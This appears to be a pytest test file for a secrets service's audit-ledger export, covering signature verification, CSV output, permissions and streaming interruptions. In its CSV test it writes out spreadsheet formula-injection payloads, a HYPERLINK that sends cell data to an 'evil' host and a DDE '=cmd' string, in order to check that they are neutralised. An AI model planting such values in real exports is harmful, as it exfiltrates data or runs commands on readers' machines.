"""Exporting the ledger: whole and in part, in both forms, to those who may and as long as they may."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import socket
import stat
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx2
import pytest

from secrethub.audit.event import Entry, Record
from secrethub.audit.verification import LedgerVerifier
from secrethub.engines.system import ledger_export
from secrethub.storage.ledger_read import _PAGE
from tests.gateway.behind import entries, fill_ledger, sql, until
from tests.gateway.conftest import Node, native
from tests.gateway.kv import ok, put, status
from tests.gateway.test_cli_tokens import Cli, cli  # noqa: F401 - a fixture


def records(lines: list[dict[str, Any]]) -> list[Record]:
    """Return the records of an export's lines."""
    found = []
    for line in lines:
        if line["type"] == "entry":
            fields = {name: line[name] for name in Entry.__struct_fields__}
            found.append(
                Record(Entry(**fields), bytes.fromhex(line["hash"]), bytes.fromhex(line["signature"]))
            )
    return found


async def exported(node: Node, query: str = "", **how: Any) -> list[dict[str, Any]]:
    """Return the lines of an export."""
    answer = await node.call("GET", f"sys/audit/export?{query}", **how)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/x-ndjson"
    assert answer.headers["cache-control"] == "no-store"
    return [json.loads(line) for line in answer.text.splitlines()]


async def test_a_whole_export_verifies(node: Node) -> None:
    """An export without criteria holds every entry as of one instant and verifies elsewhere, page by page."""
    await put(node, "a", {"n": 1})

    async def others() -> None:
        while True:
            await node.call("GET", "secret/data/a")

    await fill_ledger(node, _PAGE)
    writers = [asyncio.create_task(others()) for _ in range(3)]
    try:
        lines = await exported(node)
    finally:
        for writer in writers:
            writer.cancel()
        await asyncio.gather(*writers, return_exceptions=True)
    assert lines[0]["format"] == "secrethub-audit/1"
    assert lines[0]["cluster_id"] == node.process.core.keys.cluster_id
    assert lines[-1] == {"type": "end", "entries": sum(line["type"] == "entry" for line in lines)}
    verifier = LedgerVerifier(node.process.core.keyring().derived("audit-sign"))
    for record in records(lines):
        verifier.feed(record)
    report = verifier.finish()
    assert report.ok, report
    assert report.entries > _PAGE


async def test_an_edited_line_is_found(node: Node) -> None:
    """Whoever edits a line of an export is found by verifying it."""
    await put(node, "a", {"n": 1})
    lines = await exported(node)
    edited = next(line for line in lines if line.get("operation") == "kv.write")
    edited["actor"] = "token:x:somebody"
    verifier = LedgerVerifier(node.process.core.keyring().derived("audit-sign"))
    for record in records(lines):
        verifier.feed(record)
    bad = verifier.finish().first_bad
    assert bad is not None
    assert (bad.stream, bad.number, bad.reason) == (edited["stream"], edited["number"], "edited")


async def test_a_selection_says_so(node: Node) -> None:
    """With criteria only what they describe is exported, in the order of time, and marked as a selection."""
    for name in ("a", "b", "a"):
        await put(node, name, {"n": 1})
    lines = await exported(node, "path=secret/data/a&kind=outcome")
    assert lines[0]["format"] == "secrethub-audit-selection/1"
    assert [line["path"] for line in lines[1:-1]] == ["secret/data/a"] * 2
    assert lines[1]["at"] <= lines[2]["at"]
    assert lines[-1] == {"type": "end", "entries": 2}


async def test_csv(node: Node) -> None:
    """As CSV each entry is a row in the order of time; names that are formulas are made harmless."""
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    made = await node.call("POST", "auth/token/create", json={"display_name": evil, "policies": ["default"]})
    token = made.json()["auth"]["client_token"]
    for path in ("=cmd|'!A0'", "@x", "+1", "-1", 'secret/data/a","b'):
        assert await status(node, "GET", path, token=token) == 403
    await fill_ledger(node, ledger_export._PAGE)
    answer = await node.call("GET", "sys/audit/export?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    head, *rows = csv.reader(io.StringIO(answer.text, newline=""))
    assert head[0] == "time"
    assert len({(row[1], row[2]) for row in rows}) == len(rows) > ledger_export._PAGE
    assert [row[0] for row in rows] == sorted(row[0] for row in rows)
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@" and cell]
    assert {row[-1] for row in rows} == {"ok", "unsigned"}
    by_path = {row[head.index("path")]: row for row in rows}
    assert {'secret/data/a","b', "'=cmd|'!A0'", "'@x", "'+1", "'-1"} <= set(by_path)
    assert "HYPERLINK" in by_path["'@x"][head.index("actor")]


async def test_who_may_export(node: Node) -> None:
    """Exporting takes read and sudo on its own path; searching does not give it, and it is written down."""
    other = await node.token("other", native("sys/audit/entries", capabilities=("read", "sudo")))
    assert await status(node, "GET", "sys/audit/export", token=other) == 403
    mine = await node.token(
        "auditor", native("sys/audit/export", capabilities=("read", "sudo")), display_name="auditor"
    )
    lines = await exported(node, "operation=sys.audit.export&outcome=denied", token=mine)
    assert len(lines) == 3
    noted = (await entries(node.settings.database_url, operation="sys.audit.export", outcome="done"))[0]
    assert noted["detail"]["query"] == {"operation": "sys.audit.export", "outcome": "denied"}
    assert noted["detail"]["answer"] == {"format": "jsonl"}
    for wrong in ("format=xml", "limit=5", "after=x", "since=never", "color=red"):
        assert await status(node, "GET", f"sys/audit/export?{wrong}") == 400, wrong
    wrapped = await node.call("GET", "sys/audit/export", headers={"X-Vault-Wrap-TTL": "60"})
    assert wrapped.status_code == 400


SMALL_WINDOW = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)]
"""So that the server waits for whoever reads slowly."""


async def _streamed(node: Node, token: str, meanwhile: Callable[[], Awaitable[object]]) -> bytes:
    """Begin an export and let something happen after its first bytes.

    Returns:
        All of it.

    Raises:
        httpx2.RemoteProtocolError: it broke off.
    """
    assert node.settings.http is not None
    found: list[bytes] = []
    url = f"http://127.0.0.1:{node.settings.http.port}/v1/sys/audit/export"
    async with (
        httpx2.AsyncClient(
            timeout=20, transport=httpx2.AsyncHTTPTransport(socket_options=SMALL_WINDOW)
        ) as client,
        client.stream("GET", url, headers={"X-Vault-Token": token}) as answer,
    ):
        assert answer.status_code == 200
        async for chunk in answer.aiter_bytes():
            if not found:
                await meanwhile()
            found.append(chunk)
    return b"".join(found)


async def _broken_off(node: Node, token: str, meanwhile: Callable[[], Awaitable[object]]) -> None:
    """Check that an export breaks off because of what happens after its first bytes."""
    happened = []

    async def noted() -> None:
        await meanwhile()
        happened.append(True)

    with pytest.raises(httpx2.RemoteProtocolError):
        await _streamed(node, token, noted)
    assert happened


@pytest.fixture
async def large(node: Node) -> Node:
    """A node with more in its ledger than goes into the buffers between it and a client: 8 MB in one page."""
    await put(node, "a", {"n": 1})
    await fill_ledger(node, _PAGE + 10, detail='{"long": "' + "x" * 4000 + '"}')
    return node


async def test_a_token_that_ends_meanwhile(large: Node) -> None:
    """When the caller's token is revoked the rest is not sent, and the end of the answer is missing."""
    token = await large.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))

    async def revoke() -> None:
        await ok(large, "POST", "auth/token/revoke", {"token": token})

    await _broken_off(large, token, revoke)


async def test_a_policy_that_changes_meanwhile(large: Node) -> None:
    """When the caller's policy forbids it from now on the rest is not sent."""
    token = await large.token("auditor", native("sys/audit/export", capabilities=("read", "sudo")))

    async def forbid() -> None:
        await ok(large, "PUT", "sys/policies/acl/auditor", {"policy": native("secrets/x")})

    await _broken_off(large, token, forbid)


async def test_the_cluster_is_sealed_meanwhile(large: Node) -> None:
    """When the cluster is sealed the rest is not sent."""

    async def seal() -> None:
        await ok(large, "PUT", "sys/seal")

    await _broken_off(large, large.root, seal)


async def test_the_database_goes_away_meanwhile(large: Node) -> None:
    """When the database ends the connection the answer breaks off instead of ending early."""

    async def killed() -> list[Any]:
        return await sql(
            large.settings.database_url,
            """SELECT pg_terminate_backend(pid) FROM pg_stat_activity
               WHERE datname = current_database() AND state = 'idle in transaction'
                   AND query LIKE '%FROM audit_entries WHERE (stream, number)%'""",
        )

    async def kill() -> None:
        await until(killed)

    await _broken_off(large, large.root, kill)
    assert await status(large, "GET", "secret/data/a") == 200


async def test_what_others_change_does_not_matter(large: Node) -> None:
    """Other people's tokens may end while an export goes on."""
    other = await large.token("other", native("secrets/x"))

    async def meanwhile() -> None:
        await ok(large, "POST", "auth/token/revoke", {"token": other})

    last = (await _streamed(large, large.root, meanwhile)).splitlines()[-1]
    assert json.loads(last)["type"] == "end"


async def test_a_client_that_goes_away(large: Node) -> None:
    """When the client goes away its export ends and lets go of its connection; too many are refused."""
    assert large.settings.http is not None
    url = f"http://127.0.0.1:{large.settings.http.port}/v1/sys/audit/export"
    transport = httpx2.AsyncHTTPTransport(socket_options=SMALL_WINDOW)
    async with httpx2.AsyncClient(timeout=20, transport=transport) as client:
        for _ in range(ledger_export._MOST_AT_ONCE):
            request = client.build_request("GET", url, headers={"X-Vault-Token": large.root})
            await client.send(request, stream=True)
        refused = await large.call("GET", "sys/audit/export")
        assert refused.status_code == 429
        assert refused.headers["retry-after"] == "10"

    async def free() -> bool:
        return await status(large, "GET", "sys/audit/export") == 200

    await until(free)

    async def nobody_idles() -> bool:
        # More than once: what goes on in the background is between two statements at times.
        return not await sql(
            large.settings.database_url,
            """SELECT 1 FROM pg_stat_activity
               WHERE datname = current_database() AND state = 'idle in transaction'""",
        )

    await until(nobody_idles)


async def test_the_command(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    """The command writes a private file that is there when it is complete, and nothing when it is not."""
    await put(cli.node, "a", {"n": 1})
    place = tmp_path / "ledger.jsonl"
    assert "bytes" in await _errors(cli, "audit", "export", "--output", str(place))
    lines = [json.loads(line) for line in place.read_text().splitlines()]
    assert lines[-1] == {"type": "end", "entries": sum(line["type"] == "entry" for line in lines)}
    assert stat.S_IMODE(place.stat().st_mode) == 0o600
    table = tmp_path / "reads.csv"
    await cli("audit", "export", "--format", "csv", "--operation", "kv.write", "--output", str(table))
    assert len(table.read_text().splitlines()) == 3
    text = await cli("audit", "export", "--format", "csv", "--operation", "kv.write", "--output", "-")
    assert text.splitlines() == table.read_text().splitlines()
    before = sorted(tmp_path.iterdir())
    await cli("audit", "export", "--output", str(tmp_path / "no"), code=1, SECRETHUB_TOKEN="wrong")
    await cli("audit", "export", "--output", str(tmp_path / "none" / "x"), code=1)
    assert sorted(tmp_path.iterdir()) == before


async def _errors(cli: Cli, *words: str) -> str:  # noqa: F811
    done = await asyncio.create_subprocess_exec(
        "python", "-m", "cluster.cli.main", *words, env=cli.environment, stderr=asyncio.subprocess.PIPE
    )
    _, text = await done.communicate()
    assert done.returncode == 0, text
    return text.decode()
